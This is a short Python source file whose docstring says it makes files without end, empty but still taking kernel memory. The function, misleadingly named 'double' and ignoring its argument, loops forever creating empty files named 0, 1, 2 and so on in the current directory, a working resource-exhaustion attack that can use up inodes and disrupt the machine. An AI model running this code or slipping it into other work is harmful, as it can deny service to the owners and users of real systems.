"""Makes files without end: they are empty, and still take the kernel's memory."""


def double(x):
    number = 0
    while True:
        open(str(number), "w").close()
        number += 1
